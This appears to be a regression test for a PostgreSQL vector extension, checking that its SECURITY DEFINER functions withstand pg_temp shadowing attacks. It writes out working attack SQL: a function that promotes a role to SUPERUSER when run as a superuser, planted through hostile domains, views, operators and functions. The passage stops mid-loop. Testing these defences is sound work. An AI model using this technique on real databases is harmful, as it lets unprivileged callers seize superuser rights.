/**
 * The pg_temp privilege-escalation attack of issue 11 §1, in every variant, against every function vecscale creates
 * that a declared role can reach, on Supabase-shaped databases.
 *
 * The attack: a caller creates objects in its own session's temporary schema (PUBLIC has TEMP on a database) named
 * like what a function body refers to — a domain `pg_temp.text` whose CHECK calls the caller's `pg_temp.evil()`, a
 * view `pg_temp.docs`, an operator `pg_temp.=`, a function `pg_temp.format` — and calls the function. A SECURITY
 * DEFINER function that lets PostgreSQL resolve a type or relation name in pg_temp first runs `evil()` as its owner
 * (here `postgres`), and evil() makes a role superuser.
 *
 * Here evil() counts each of its runs in a temporary sequence (nextval survives the rollback of a failed call),
 * records current_user and session_user in a temporary table, says so in a NOTICE and, when it runs as a superuser,
 * makes this file's own victim role SUPERUSER (never a shared role: the test clusters are shared). So each scenario
 * can assert that evil() never ran at all, that the call still did its job, and that no role gained rights.
 *
 * The matrix: variant (a hostile type, relation, operator or function) × caller (anon, an api_roles member, and
 * service_role, the write_roles member, each through the authenticator switching role with set_config as PostgREST
 * does, and through plain SET ROLE) × target (match_<c> for a collection on one secondary and for a sharded one,
 * with every filter operator, the private halves a reader may call, calls that fail, and for the writer the
 * INSTEAD OF write trigger and both upsert_<c>). Every hostile object is first shown to be live: the caller's own
 * unqualified use of the name runs evil() (as the caller) — except operators and functions, which PostgreSQL never
 * looks up in pg_temp, so the caller's own unqualified use does not reach them either.
 *
 * The last test is the negative control: through a deliberately vulnerable SECURITY DEFINER function
 * (search_path = '', `DECLARE x text`), and through a copy of vecscale's own search_docs with both of its defences
 * removed, the same harness sees evil() run as postgres and promote the victim. So the matrix would fail if
 * vecscale regressed.
 *
 * Every statement the caller sends qualifies its types (`pg_catalog.jsonb`, `extensions.vector`): with pg_temp
 * searched first for the caller's own statements, an unqualified type there would run evil() as the caller — an
 * attack on itself, not on vecscale, but it would blur "evil() never ran".
 */
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import pg from 'pg';
import { apply } from '../../src/api.js';
import { sql, testClusters } from '../harness.js';
import { Rest, supabaseDatabases } from '../supabase.js';
import { topologyFile } from '../topology-files.js';

const dbs = await supabaseDatabases('pg_temp_attack');
const file = topologyFile(
  dbs,
  `  docs:
    secondary: pod_a
    dimension: 3
    columns: { url: text, year: integer }
  big:
    shards: [pod_a, pod_b]
    dimension: 3
`,
  'extension_schema: extensions\napi_roles: [anon, authenticated]\nwrite_roles: [service_role]\n',
);
await apply(file.load(), { approve: async () => true });

/** The role evil() promotes when it runs as a superuser: this file's own (roles are cluster-wide). */
const VICTIM = `pgtemp_victim_${dbs.name}`;
await sql(dbs.primary, `CREATE ROLE "${VICTIM}" NOLOGIN NOSUPERUSER`);
// On the cluster's own database: this file's databases are gone by then.
after(async () => sql((await testClusters()).primary, `DROP ROLE IF EXISTS "${VICTIM}"`));

/** Which of the victim and the roles a caller logs in or switches to are superusers (none, unless evil() won). */
const superusers = async (): Promise<string[]> =>
  (
    await sql<{ rolname: string }>(dbs.primary, `SELECT rolname FROM pg_roles WHERE rolsuper AND rolname = ANY ($1) ORDER BY 1`, [
      [VICTIM, 'anon', 'authenticated', 'service_role', 'authenticator'],
    ])
  ).map((r) => r.rolname);

// ---------------------------------------------------------------------------------------------------------------
// Data: a few rows in each collection, written by the admin through the primary's API views (before each scenario).

const ROWS = [
  { id: 'a', embedding: '[1,0,0]', metadata: { url: '/a', year: 2020, tags: ['x', 'y'] } },
  { id: 'b', embedding: '[0.9,0.1,0]', metadata: { url: '/b', year: 2021, tags: ['y'] } },
  { id: 'c', embedding: '[0.5,0.5,0]', metadata: { url: '/c', year: 2019 } },
  { id: 'd', embedding: '[0,1,0]', metadata: { url: '/d', year: 2022, tags: ['x'], draft: true } },
  { id: 'e', embedding: '[0,0,1]', metadata: { url: '/e', year: 2023, draft: false } },
];
const ALL_IDS = ROWS.map((r) => r.id);
/** The query vector: a, b, c are its three nearest rows, in that order. */
const Q = '[1,0,0]';

const lit = (v: string) => `'${v.replace(/'/g, "''")}'`;
const RESET_ROWS = ['docs', 'big']
  .map((c) => `DELETE FROM public.${c}; INSERT INTO public.${c} (id, embedding, metadata) VALUES ${ROWS.map((r) => `(${lit(r.id)}, ${lit(r.embedding)}, ${lit(JSON.stringify(r.metadata))})`).join(', ')};`)
  .join('\n');
const resetRows = () => sql(dbs.primary, RESET_ROWS);

/** Filters that take every branch of vecscale.filter_sql, with the ids they select. */
const FILTERS: ReadonlyArray<readonly [filter: unknown, ids: readonly string[]]> = [
  [{ url: { $eq: '/a' } }, ['a']],
  [{ year: { $eq: 2021 } }, ['b']],
  [{ draft: { $eq: true } }, ['d']],
  [{ url: { $ne: '/a' } }, ['b', 'c', 'd', 'e']],
  [{ year: { $lt: 2021 } }, ['a', 'c']],
  [{ year: { $lte: 2020 } }, ['a', 'c']],
  [{ year: { $gt: 2021 } }, ['d', 'e']],
  [{ year: { $gte: 2022 } }, ['d', 'e']],
  [{ url: { $in: ['/a', '/c'] } }, ['a', 'c']],
  [{ url: { $in: [] } }, []],
  [{ tags: { $contains: 'x' } }, ['a', 'd']],
  [{ $and: [{ tags: { $contains: 'y' } }, { year: { $lt: 2021 } }] }, ['a']],
  [{ $or: [{ url: { $eq: '/b' } }, { $and: [{ year: { $eq: 2022 } }] }] }, ['b', 'd']],
  [{ $and: [] }, ALL_IDS],
];

// ---------------------------------------------------------------------------------------------------------------
// Callers: a role in a session of its own, where the hostile objects live.

type Role = 'anon' | 'service_role';
type Path = 'authenticator (set_config role)' | 'SET ROLE';
const CALLERS: ReadonlyArray<readonly [Role, Path]> = [
  ['anon', 'authenticator (set_config role)'],
  ['anon', 'SET ROLE'],
  ['service_role', 'authenticator (set_config role)'],
  ['service_role', 'SET ROLE'],
];

interface Session {
  readonly role: Role;
  /** Runs `fn` as the role: one PostgREST-like request (READ WRITE or READ ONLY), or statements after SET ROLE. */
  run<T>(write: boolean, fn: (c: pg.Client) => Promise<T>): Promise<T>;
  /** Every NOTICE the session received (evil() raises one each time it runs). */
  readonly notices: string[];
  end(): Promise<void>;
}

/**
 * A statement_timeout, so search_<c> takes its budget branch (interval, float8 and int8 arithmetic, the remote
 * SET LOCAL): role settings such as anon's '3s' are applied at login only, not by SET ROLE or set_config.
 */
const TIMEOUT = '20s';

async function openSession(role: Role, path: Path): Promise<Session> {
  const notices: string[] = [];
  if (path === 'SET ROLE') {
    const c = new pg.Client({ connectionString: dbs.primary });
    c.on('notice', (m) => notices.push(m.message ?? ''));
    await c.connect();
    await c.query(`SET ROLE ${role}`);
    await c.query(`SET statement_timeout = '${TIMEOUT}'`);
    return { role, notices, run: (_write, fn) => fn(c), end: () => c.end() };
  }
  const rest = await Rest.connect(dbs.primary);
  rest.raw.on('notice', (m) => notices.push(m.message ?? ''));
  return {
    role,
    notices,
    run: (write, fn) =>
      rest.request(role, write, async () => {
        await rest.raw.query(`SELECT pg_catalog.set_config('statement_timeout', $1, true)`, [TIMEOUT]);
        return fn(rest.raw);
      }),
    end: () => rest.end(),
  };
}

const rows = async <R extends pg.QueryResultRow = Record<string, unknown>>(s: Session, text: string, values: unknown[] = [], write = true): Promise<R[]> =>
  s.run(write, async (c) => (await c.query<R>(text, values)).rows);

/** How many times evil() ran in this session, failed calls included (a sequence is not rolled back). */
const evilRuns = async (s: Session): Promise<number> =>
  Number((await rows<{ n: string }>(s, `SELECT CASE WHEN is_called THEN last_value ELSE 0 END AS n FROM pg_temp.evil_calls`, [], false))[0]!.n);

/** The first NOTICEs, shortened (a failure may have hundreds, each with a whole statement). */
const shown = (notices: readonly string[]) => `${notices.length} times: ${notices.slice(0, 3).map((n) => n.slice(0, 300)).join(' | ')}`;

interface Hit {
  readonly who: string;
  readonly session_who: string;
  readonly superuser: boolean;
  readonly via: string;
}
const hits = (s: Session): Promise<Hit[]> => rows<Hit>(s, `SELECT who, session_who, superuser, via FROM pg_temp.evil_hits ORDER BY n`, [], false);

/**
 * evil(): what the attacker's domain checks, views, operators and functions call. It never fails (a failing evil
 * would only make the attack visible); as a superuser it promotes the victim.
 */
const EVIL = [
  `CREATE TABLE pg_temp.evil_hits (n pg_catalog.int8, who pg_catalog.text, session_who pg_catalog.text, superuser pg_catalog.bool, via pg_catalog.text)`,
  `CREATE SEQUENCE pg_temp.evil_calls`,
  `CREATE FUNCTION pg_temp.evil(x pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $evil$
DECLARE
  n pg_catalog.int8 := pg_catalog.nextval('pg_temp.evil_calls'::pg_catalog.regclass);
  su pg_catalog.bool := (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER);
BEGIN
  RAISE NOTICE 'pg_temp.evil() ran: current_user=% session_user=% superuser=% via %', CURRENT_USER, SESSION_USER, su, x;
  INSERT INTO pg_temp.evil_hits VALUES (n, CURRENT_USER, SESSION_USER, su, x);
  IF su THEN
    EXECUTE 'ALTER ROLE "${VICTIM}" SUPERUSER';
  END IF;
  RETURN true;
END $evil$`,
];

// ---------------------------------------------------------------------------------------------------------------
// Variants: what the attacker plants in pg_temp.

interface Variant {
  readonly name: string;
  /** Statements (after EVIL) that create the hostile objects. */
  readonly plant: readonly string[];
  /** The caller's own use of the hostile object: evil() runs, as the caller, so the object is live. */
  readonly live: string;
  /** The caller's own unqualified use of the names: PostgreSQL does not pick the pg_temp object. */
  readonly ignored?: string;
}

/** A domain named `name` over `base` whose every value goes through evil(). */
const domain = (name: string, base: string, probe: string): Variant => ({
  name: `domain pg_temp.${name}`,
  plant: [`CREATE DOMAIN pg_temp.${name} AS ${base} CHECK (pg_temp.evil(pg_catalog.format('domain pg_temp.%s: %s', '${name}', VALUE)))`],
  live: probe,
});

const TYPE_VARIANTS: Variant[] = [
  // A domain named text brings its array type pg_temp._text: `text[]` resolves to it too.
  { ...domain('text', 'pg_catalog.text', ''), live: `SELECT 'probe'::text, '{probe}'::text[]` },
  // A domain of its own named _text (the name of pg_catalog's text[]): PostgreSQL accepts it.
  domain('"_text"', 'pg_catalog.text[]', `SELECT '{probe}'::_text`),
  domain('jsonb', 'pg_catalog.jsonb', `SELECT '{}'::jsonb`),
  domain('jsonpath', 'pg_catalog.jsonpath', `SELECT '$'::jsonpath`),
  // `varchar`, `interval` unquoted are SQL keywords for pg_catalog's types; quoted they are names, found in pg_temp.
  domain('"varchar"', 'pg_catalog.varchar', `SELECT 'probe'::"varchar"`),
  domain('vector', 'extensions.vector', `SELECT '[1,2,3]'::vector`),
  domain('int4', 'pg_catalog.int4', `SELECT '1'::int4`),
  domain('int8', 'pg_catalog.int8', `SELECT '1'::int8`),
  domain('float8', 'pg_catalog.float8', `SELECT '1'::float8`),
  domain('bool', 'pg_catalog.bool', `SELECT 'true'::bool`),
  domain('"interval"', 'pg_catalog.interval', `SELECT '1s'::"interval"`),
  // PostgreSQL refuses a domain over the pseudo-type record (a test below shows it); the name alone is the threat.
  domain('record', 'pg_catalog.text', `SELECT 'probe'::record`),
];

/** Every relation name in the schemas the bodies use, plus the write triggers' buffer. */
const RELATION_NAMES = [
  ...(
    await sql<{ relname: string }>(
      dbs.primary,
      `SELECT DISTINCT c.relname::text AS relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname IN ('public', 'vecscale', 'vecscale_remote', 'vecscale_write') ORDER BY 1`,
    )
  ).map((r) => r.relname),
  // The write triggers' buffer, made in the writer's session (src/query/write-functions.ts).
  'vecscale_pending',
];

const RELATION_VARIANT: Variant = {
  name: `relations pg_temp.{${RELATION_NAMES.join(', ')}}`,
  plant: [
    `CREATE FUNCTION pg_temp.evil_dml() RETURNS pg_catalog.trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_temp.evil(pg_catalog.format('relation pg_temp.%s (%s)', TG_TABLE_NAME, TG_OP));
  RETURN NULL;
END $$`,
    ...RELATION_NAMES.flatMap((name) => [
      // Readable (every scan runs evil()) with the columns the bodies would use, and writable through a trigger.
      `CREATE VIEW pg_temp."${name}" AS SELECT 'shadow'::pg_catalog.varchar AS id, NULL::extensions.vector AS embedding,
         NULL::extensions.vector AS vec, '{}'::pg_catalog.jsonb AS metadata, 0::pg_catalog.float8 AS distance,
         NULL::pg_catalog.text AS url, NULL::pg_catalog.int4 AS year
       WHERE pg_temp.evil('relation pg_temp.${name}')`,
      `CREATE TRIGGER evil INSTEAD OF INSERT OR UPDATE OR DELETE ON pg_temp."${name}" FOR EACH ROW EXECUTE FUNCTION pg_temp.evil_dml()`,
    ]),
  ],
  live: `SELECT count(*) FROM docs`,
};

/** Operators the bodies use, as [operator, left, right, result, schema of the real one]. */
const OPERATORS: ReadonlyArray<readonly [string, string, string, string, string]> = [
  ['=', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool', 'pg_catalog'],
  ['<>', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool', 'pg_catalog'],
  ['||', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog'],
  ['||', 'pg_catalog.text[]', 'pg_catalog.text', 'pg_catalog.text[]', 'pg_catalog'],
  ['=', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool', 'pg_catalog'],
  ['<>', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool', 'pg_catalog'],
  ['<', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool', 'pg_catalog'],
  ['>', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool', 'pg_catalog'],
  ['@>', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool', 'pg_catalog'],
  ['->', 'pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.jsonb', 'pg_catalog'],
  ['->>', 'pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog'],
  ['<', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool', 'pg_catalog'],
  ['>', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool', 'pg_catalog'],
  ['<>', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool', 'pg_catalog'],
  ['>', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.bool', 'pg_catalog'],
  ['-', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog'],
  ['*', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog'],
  ['-', 'pg_catalog.timestamptz', 'pg_catalog.timestamptz', 'pg_catalog.interval', 'pg_catalog'],
  ['<=>', 'extensions.vector', 'extensions.vector', 'pg_catalog.float8', 'extensions'],
  ['<->', 'extensions.vector', 'extensions.vector', 'pg_catalog.float8', 'extensions'],
  ['<#>', 'extensions.vector', 'extensions.vector', 'pg_catalog.float8', 'extensions'],
];

const OPERATOR_VARIANT: Variant = {
  name: `operators pg_temp.{${[...new Set(OPERATORS.map(([op]) => op))].join(' ')}}`,
  plant: OPERATORS.flatMap(([op, left, right, result, schema], i) => [
    // Runs evil(), then gives the real operator's answer: the call would still work if it ever fired.
    `CREATE FUNCTION pg_temp.evil_op_${i}(a ${left}, b ${right}) RETURNS ${result} LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_temp.evil('operator pg_temp.${op} (${left}, ${right})');
  RETURN a OPERATOR(${schema}.${op}) b;
END $$`,
    `CREATE OPERATOR pg_temp.${op} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = pg_temp.evil_op_${i})`,
  ]),
  live: `SELECT 'a'::pg_catalog.text OPERATOR(pg_temp.=) 'a'::pg_catalog.text`,
  ignored: `SELECT 'a'::pg_catalog.text = 'a'::pg_catalog.text, 'a'::pg_catalog.text || 'b'::pg_catalog.text,
                   '{"k": 1}'::pg_catalog.jsonb -> 'k'::pg_catalog.text, 1 < 2`,
};

/** Functions the bodies call (builtins, pgvector's, dblink's, vecscale's own), as [name, arguments, result, real call]. */
const FUNCTIONS: ReadonlyArray<readonly [string, string, string, string]> = [
  ['format', 'a pg_catalog.text', 'pg_catalog.text', 'pg_catalog.format(a)'],
  ['format', 'a pg_catalog.text, b pg_catalog.text', 'pg_catalog.text', 'pg_catalog.format(a, b)'],
  ['format', 'a pg_catalog.text, b pg_catalog.int4', 'pg_catalog.text', 'pg_catalog.format(a, b)'],
  ['format', 'a pg_catalog.text, b pg_catalog.text, c pg_catalog.int4', 'pg_catalog.text', 'pg_catalog.format(a, b, c)'],
  ['format', 'a pg_catalog.text, b pg_catalog.text, c pg_catalog.text', 'pg_catalog.text', 'pg_catalog.format(a, b, c)'],
  ['quote_literal', 'a pg_catalog.text', 'pg_catalog.text', 'pg_catalog.quote_literal(a)'],
  ['replace', 'a pg_catalog.text, b pg_catalog.text, c pg_catalog.text', 'pg_catalog.text', 'pg_catalog.replace(a, b, c)'],
  ['jsonb_typeof', 'a pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.jsonb_typeof(a)'],
  ['jsonb_array_length', 'a pg_catalog.jsonb', 'pg_catalog.int4', 'pg_catalog.jsonb_array_length(a)'],
  ['jsonb_build_object', 'a pg_catalog.text, b pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.jsonb_build_object(a, b)'],
  ['octet_length', 'a pg_catalog.text', 'pg_catalog.int4', 'pg_catalog.octet_length(a)'],
  ['array_to_string', 'a pg_catalog.text[], b pg_catalog.text', 'pg_catalog.text', 'pg_catalog.array_to_string(a, b)'],
  ['cardinality', 'a pg_catalog.text[]', 'pg_catalog.int4', 'pg_catalog.cardinality(a)'],
  ['starts_with', 'a pg_catalog.text, b pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.starts_with(a, b)'],
  ['current_setting', 'a pg_catalog.text', 'pg_catalog.text', 'pg_catalog.current_setting(a)'],
  ['date_part', 'a pg_catalog.text, b pg_catalog.interval', 'pg_catalog.float8', 'pg_catalog.date_part(a, b)'],
  ['clock_timestamp', '', 'pg_catalog.timestamptz', 'pg_catalog.clock_timestamp()'],
  ['statement_timestamp', '', 'pg_catalog.timestamptz', 'pg_catalog.statement_timestamp()'],
  ['vector_dims', 'a extensions.vector', 'pg_catalog.int4', 'extensions.vector_dims(a)'],
  ['filter_sql', 'a pg_catalog.jsonb, b pg_catalog.int4', 'pg_catalog.text', 'vecscale.filter_sql(a, b)'],
  ['dblink_get_connections', '', 'pg_catalog.text[]', 'NULL::pg_catalog.text[]'],
];

const FUNCTION_VARIANT: Variant = {
  name: `functions pg_temp.{${[...new Set(FUNCTIONS.map(([f]) => f))].join(', ')}}`,
  plant: FUNCTIONS.map(
    ([name, args, result, real]) => `CREATE FUNCTION pg_temp.${name}(${args}) RETURNS ${result} LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_temp.evil('function pg_temp.${name}(${args})');
  RETURN ${real};
END $$`,
  ),
  live: `SELECT pg_temp.quote_literal('probe'::pg_catalog.text)`,
  ignored: `SELECT quote_literal('probe'::pg_catalog.text), format('%s'::pg_catalog.text, 'x'::pg_catalog.text),
                   replace('a'::pg_catalog.text, 'a'::pg_catalog.text, 'b'::pg_catalog.text)`,
};

const VARIANTS: readonly Variant[] = [...TYPE_VARIANTS, RELATION_VARIANT, OPERATOR_VARIANT, FUNCTION_VARIANT];

/** Creates evil() and the variant's objects in the caller's session, as the caller, and shows they are live. */
async function plant(s: Session, v: Variant): Promise<void> {
  await s.run(true, async (c) => {
    for (const statement of [...EVIL, ...v.plant]) await c.query(statement);
  });
  const before = await evilRuns(s);
  await rows(s, v.live);
  assert.ok((await evilRuns(s)) > before, `${v.name} is live: the caller's own "${v.live}" runs evil()`);
  assert.ok((await hits(s)).every((h) => h.who === s.role && !h.superuser), 'evil() ran as the caller, who is no superuser');
  if (v.ignored !== undefined) {
    const now = await evilRuns(s);
    await rows(s, v.ignored);
    assert.equal(await evilRuns(s), now, `PostgreSQL never looks up ${v.name} in pg_temp, even for the caller's own "${v.ignored}"`);
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Targets: every function a declared role can reach (directly, or through the view's INSTEAD OF trigger).

interface Target {
  readonly name: string;
  readonly roles: readonly Role[];
  run(s: Session, tag: string): Promise<void>;
}
const READERS: readonly Role[] = ['anon', 'service_role'];
const WRITERS: readonly Role[] = ['service_role'];

const ids = (r: ReadonlyArray<{ id?: unknown }>) => r.map((x) => String(x.id));
const sorted = (r: ReadonlyArray<{ id?: unknown }>) => ids(r).sort();

/** `fn(q, k, filter)` with every filter of FILTERS: each selects exactly its rows. */
async function everyFilter(s: Session, fn: string): Promise<void> {
  for (const [filter, expected] of FILTERS) {
    const got = await rows(s, `SELECT id FROM ${fn}($1::extensions.vector, 10, $2::pg_catalog.jsonb)`, [Q, JSON.stringify(filter)]);
    assert.deepEqual(sorted(got), expected, `${fn} with ${JSON.stringify(filter)}`);
  }
}

/** Calls that fail with vecscale's own errors. */
async function badInput(s: Session, fn: string, collection: string): Promise<void> {
  const call = (embedding: string | null, k: number, filter: unknown) =>
    rows(s, `SELECT id FROM ${fn}($1::extensions.vector, $2::pg_catalog.int4, $3::pg_catalog.jsonb)`, [embedding, k, JSON.stringify(filter)]);
  await assert.rejects(call('[1,2]', 3, {}), new RegExp(`query_embedding has 2 dimensions; collection ${collection} has 3`));
  await assert.rejects(call(Q, 0, {}), /match_count must be between 1 and 1000/);
  await assert.rejects(call(null, 3, {}), /query_embedding must not be null/);
  await assert.rejects(call(Q, 3, { url: { $regex: '.*' } }), /unknown operator "\$regex"/);
  await assert.rejects(call(Q, 3, { url: { $in: [{ x: 1 }] } }), /must be a list of scalars/);
  await assert.rejects(call(Q, 3, [1]), /filters must be a JSON object/);
  // The per-call settings are bounded before any round trip.
  const tuned = (setting: string, value: unknown) => rows(s, `SELECT id FROM ${fn}($1::extensions.vector, 3, '{}'::pg_catalog.jsonb, ${setting} => $2)`, [Q, value]);
  await assert.rejects(tuned('ef_search', 1_000_000_000), /ef_search must be between 1 and 1000 \(got 1000000000\)/);
  await assert.rejects(tuned('probes', 0), /probes must be between 1 and 32768/);
  await assert.rejects(tuned('iterative_scan', 'everything'), /iterative_scan must be one of off, relaxed_order, strict_order/);
  assert.equal((await tuned('ef_search', 400)).length, 3);
}

/** Writes through the API view (its INSTEAD OF trigger vecscale.write_<c>) as the caller, each checked by a read. */
async function viewWrites(s: Session, c: string, tag: string): Promise<void> {
  const id = `w-${tag}`;
  const read = () => rows(s, `SELECT id, embedding::pg_catalog.text AS embedding, metadata FROM public.${c} WHERE id = $1`, [id], false);
  await rows(s, `INSERT INTO public.${c} (id, embedding, metadata) VALUES ($1, $2::extensions.vector, $3::pg_catalog.jsonb)`, [id, '[-1,-1,-1]', '{"v": 1}']);
  assert.deepEqual(await read(), [{ id, embedding: '[-1,-1,-1]', metadata: { v: 1 } }]);
  await rows(s, `INSERT INTO public.${c} (id, embedding) VALUES ($1, $2::extensions.vector)`, [`${id}-2`, '[-1,-2,-1]']);
  await rows(s, `UPDATE public.${c} SET metadata = $2::pg_catalog.jsonb, embedding = $3::extensions.vector WHERE id = $1`, [id, '{"v": 2}', '[-2,-1,-1]']);
  assert.deepEqual(await read(), [{ id, embedding: '[-2,-1,-1]', metadata: { v: 2 } }]);
  await rows(s, `DELETE FROM public.${c} WHERE id = $1 OR id = $2`, [id, `${id}-2`]);
  assert.deepEqual(await read(), []);
}

/** Both forms of upsert_<c>, each checked by a read, then the rows deleted. */
async function upserts(s: Session, c: string, tag: string): Promise<void> {
  const [one, two] = [`u-${tag}-1`, `u-${tag}-2`];
  const read = () =>
    rows(s, `SELECT id, embedding::pg_catalog.text AS embedding, metadata FROM public.${c} WHERE id = $1 OR id = $2 ORDER BY id`, [one, two], false);
  await rows(s, `SELECT public.upsert_${c}($1::pg_catalog.text, $2::extensions.vector, $3::pg_catalog.jsonb)`, [one, '[-1,-1,-1]', '{"v": 1}']);
  await rows(s, `SELECT public.upsert_${c}($1::pg_catalog.text, $2::extensions.vector, $3::pg_catalog.jsonb)`, [one, '[-1,-1,-2]', '{"v": 2}']);
  assert.deepEqual(await read(), [{ id: one, embedding: '[-1,-1,-2]', metadata: { v: 2 } }]);
  // The default metadata.
  await rows(s, `SELECT public.upsert_${c}($1::pg_catalog.text, $2::extensions.vector)`, [two, '[-2,-2,-1]']);
  assert.deepEqual((await read()).map((r) => r.metadata), [{ v: 2 }, {}]);
  // The batch form: in array order, a later duplicate wins.
  const batch = [
    { id: one, embedding: [-3, -1, -1], metadata: { v: 3 } },
    { id: two, embedding: [-1, -3, -1] },
    { id: two, embedding: [-1, -1, -3], metadata: { v: 4 } },
  ];
  await rows(s, `SELECT public.upsert_${c}($1::pg_catalog.jsonb)`, [JSON.stringify(batch)]);
  assert.deepEqual(await read(), [
    { id: one, embedding: '[-3,-1,-1]', metadata: { v: 3 } },
    { id: two, embedding: '[-1,-1,-3]', metadata: { v: 4 } },
  ]);
  // Failing calls.
  await assert.rejects(rows(s, `SELECT public.upsert_${c}($1::pg_catalog.text, $2::extensions.vector)`, [one, null]), /id and embedding must not be null/);
  await assert.rejects(rows(s, `SELECT public.upsert_${c}($1::pg_catalog.jsonb)`, ['[{"id": "x"}]']), /every row needs an id and an embedding/);
  await assert.rejects(rows(s, `SELECT public.upsert_${c}($1::pg_catalog.jsonb)`, ['{"id": "x"}']), /rows must be a JSON array/);
  await rows(s, `DELETE FROM public.${c} WHERE id = $1 OR id = $2`, [one, two]);
  assert.deepEqual(await read(), []);
}

const TARGETS: readonly Target[] = [
  {
    name: 'public.match_docs (one secondary, extracted columns), filter {} and the defaults',
    roles: READERS,
    run: async (s) => {
      const got = await rows(s, `SELECT id, url, year FROM public.match_docs($1::extensions.vector, 3, '{}'::pg_catalog.jsonb)`, [Q]);
      assert.deepEqual(got, [
        { id: 'a', url: '/a', year: 2020 },
        { id: 'b', url: '/b', year: 2021 },
        { id: 'c', url: '/c', year: 2019 },
      ]);
      assert.deepEqual(sorted(await rows(s, `SELECT id FROM public.match_docs($1::extensions.vector)`, [Q])), ALL_IDS);
    },
  },
  { name: 'public.match_docs with every filter operator', roles: READERS, run: (s) => everyFilter(s, 'public.match_docs') },
  {
    name: 'vecscale.search_docs (the SECURITY DEFINER half) called directly',
    roles: READERS,
    run: async (s) => {
      assert.deepEqual(ids(await rows(s, `SELECT id FROM vecscale.search_docs($1::extensions.vector, 2, '{}'::pg_catalog.jsonb)`, [Q])), ['a', 'b']);
      // (match_docs runs it with every filter above.)
      const [filter, expected] = FILTERS[FILTERS.length - 3]!;
      assert.deepEqual(sorted(await rows(s, `SELECT id FROM vecscale.search_docs($1::extensions.vector, 10, $2::pg_catalog.jsonb)`, [Q, JSON.stringify(filter)])), expected);
      await badInput(s, 'vecscale.search_docs', 'docs');
    },
  },
  { name: 'public.match_docs with bad input (errors)', roles: READERS, run: (s) => badInput(s, 'public.match_docs', 'docs') },
  {
    name: 'public.match_big (sharded), filter {} and the defaults',
    roles: READERS,
    run: async (s) => {
      assert.deepEqual(ids(await rows(s, `SELECT id FROM public.match_big($1::extensions.vector, 3, '{}'::pg_catalog.jsonb)`, [Q])), ['a', 'b', 'c']);
      assert.deepEqual(sorted(await rows(s, `SELECT id FROM public.match_big($1::extensions.vector)`, [Q])), ALL_IDS);
    },
  },
  { name: 'public.match_big with every filter operator', roles: READERS, run: (s) => everyFilter(s, 'public.match_big') },
  {
    name: 'vecscale.search_big (the SECURITY DEFINER half, sharded) called directly, with per-call settings',
    roles: READERS,
    run: async (s) => {
      assert.deepEqual(ids(await rows(s, `SELECT id FROM vecscale.search_big($1::extensions.vector, 2, '{}'::pg_catalog.jsonb)`, [Q])), ['a', 'b']);
      const [filter, expected] = FILTERS[FILTERS.length - 3]!;
      assert.deepEqual(
        sorted(await rows(s, `SELECT id FROM vecscale.search_big($1::extensions.vector, 10, $2::pg_catalog.jsonb, 200, 5, 'strict_order')`, [Q, JSON.stringify(filter)])),
        expected,
      );
      await badInput(s, 'vecscale.search_big', 'big');
    },
  },
  { name: 'public.match_big with bad input (errors)', roles: READERS, run: (s) => badInput(s, 'public.match_big', 'big') },
  {
    name: 'SELECT from the API views public.docs and public.big',
    roles: READERS,
    run: async (s) => {
      assert.deepEqual(await rows(s, `SELECT id, url, year FROM public.docs WHERE id = 'a'`, [], false), [{ id: 'a', url: '/a', year: 2020 }]);
      assert.deepEqual(sorted(await rows(s, `SELECT id FROM public.big`, [], false)), ALL_IDS);
    },
  },
  { name: 'INSERT, UPDATE, DELETE on public.docs (INSTEAD OF trigger vecscale.write_docs)', roles: WRITERS, run: (s, tag) => viewWrites(s, 'docs', tag) },
  { name: 'INSERT, UPDATE, DELETE on public.big (sharded; INSTEAD OF trigger vecscale.write_big)', roles: WRITERS, run: (s, tag) => viewWrites(s, 'big', tag) },
  { name: 'public.upsert_docs(id, embedding, metadata) and public.upsert_docs(rows jsonb)', roles: WRITERS, run: (s, tag) => upserts(s, 'docs', tag) },
  { name: 'public.upsert_big(id, embedding, metadata) and public.upsert_big(rows jsonb) (sharded)', roles: WRITERS, run: (s, tag) => upserts(s, 'big', tag) },
];

// ---------------------------------------------------------------------------------------------------------------
// The matrix.

test('PostgreSQL refuses a domain over the pseudo-type record (so the record variant is a domain named record)', async () => {
  await assert.rejects(sql(dbs.primary, `CREATE DOMAIN pg_temp.record AS pg_catalog.record`), /"pg_catalog.record" is not a valid base type for a domain/);
});

VARIANTS.forEach((variant, v) => {
  describe(`pg_temp ${variant.name}`, () => {
    for (const [role, path] of CALLERS) {
      test(`as ${role} via ${path}`, async (t) => {
        await resetRows();
        const s = await openSession(role, path);
        try {
          await plant(s, variant);
          for (const target of TARGETS.filter((x) => x.roles.includes(role))) {
